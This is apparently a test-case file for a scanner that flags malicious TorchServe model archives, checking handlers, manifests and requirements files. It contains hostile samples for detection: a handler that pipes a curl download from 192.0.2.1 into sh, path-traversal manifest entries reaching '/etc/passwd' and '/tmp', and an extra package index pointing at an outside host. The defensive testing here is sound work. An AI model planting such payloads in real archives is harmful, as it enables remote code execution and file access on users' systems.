"""Archives of TorchServe: which of their files run, and manifests that reach outside the archive."""

from __future__ import annotations

import json

import numpy as np

from modelsweep.core.finding import Json
from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.numpy.cases import saved
from tests.scanners.zip.cases import Member, made

QUIET = b"class Handler:\n    def handle(self, data, context):\n        return data\n"
EVIL = b"import os\nos.system('curl http://192.0.2.1/x | sh')\n"
MODEL = "model.npy"


def archive(handler: str = "image_classifier", *more: Member, **named: Json) -> bytes:
    """Return an archive as torch-model-archiver makes it, with further members and entries of the manifest."""
    model: dict[str, Json] = {"modelName": "net", "serializedFile": MODEL, "handler": handler, "modelVersion": "1.0"}
    manifest = {"createdOn": "2024", "runtime": "python", "model": {**model, **named}, "archiverVersion": "0.9"}
    return made((MODEL, saved(np.ones(2))), *more, ("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()))


def case(verdict: Verdict, handler: str = "image_classifier", *more: Member, **named: Json) -> Case:
    """Return the case of an archive."""
    return Case(lambda: archive(handler, *more, **named), "net.mar", verdict)


def workflow(verdict: Verdict, handler: str, code: bytes = QUIET) -> Case:
    """Return the case of a workflow of models."""
    named = {"workflowName": "flow", "specFile": "workflow.yaml", "handler": handler}
    manifest = json.dumps({"createdOn": "2024", "archiverVersion": "0.9", "workflow": named}).encode()
    steps = b"models:\n  m1:\n    url: net.mar\ndag:\n  m1: [post]\n"
    members = (("workflow.yaml", steps), ("handler.py", code), ("WAR-INF/MANIFEST.json", manifest))
    return Case(lambda: made(*members), "flow.war", verdict)


FILE = ("handler.py", QUIET)
CASES = {
    "benign": case(Verdict.CLEAN),
    "benign_handler": case(Verdict.CLEAN, "handler.py", FILE),
    "benign_handler_function": case(Verdict.CLEAN, "handler:handle", FILE),
    "benign_model_file": case(
        Verdict.CLEAN, "image_classifier", ("net.py", b"class Net:\n    pass\n"), modelFile="net.py"
    ),
    "benign_requirements": case(
        Verdict.CLEAN,
        "handler.py",
        FILE,
        (
            "requirements.txt",
            b"# see http://example.com\ntorchvision==0.20\ntransformers>=4 ; python_version > '3.8'\n",
        ),
        requirementsFile="requirements.txt",
    ),
    "benign_workflow": workflow(Verdict.CLEAN, "handler.py"),
    "workflow_runs_commands": workflow(Verdict.MALICIOUS, "handler.py", EVIL),
    "workflow_outside": workflow(Verdict.MALICIOUS, "/tmp/handler.py"),
    "handler_runs_commands": case(Verdict.MALICIOUS, "handler.py", ("handler.py", EVIL)),
    "handler_missing": case(Verdict.REVIEW, "elsewhere.py"),
    "handler_outside": case(Verdict.MALICIOUS, "../../tmp/handler.py"),
    "handler_absolute": case(Verdict.MALICIOUS, "/tmp/handler.py:run"),
    "model_outside": case(Verdict.MALICIOUS, serializedFile="../../../etc/passwd"),
    "foreign_index": case(
        Verdict.REVIEW,
        "handler.py",
        FILE,
        ("requirements.txt", b"torchvision\n--extra-index-url http://192.0.2.1/simple\nacme\n"),
        requirementsFile="requirements.txt",
    ),
    "foreign_url": case(
        Verdict.REVIEW,
        "handler.py",
        FILE,
        ("requirements.txt", b"acme @ git+https://example.com/acme.git\n"),
        requirementsFile="requirements.txt",
    ),
    "broken_manifest": Case(
        lambda: made((MODEL, saved(np.ones(2))), ("MAR-INF/MANIFEST.json", b'{"model": {')),
        "net.mar",
        Verdict.NOT_SCANNED,
    ),
}
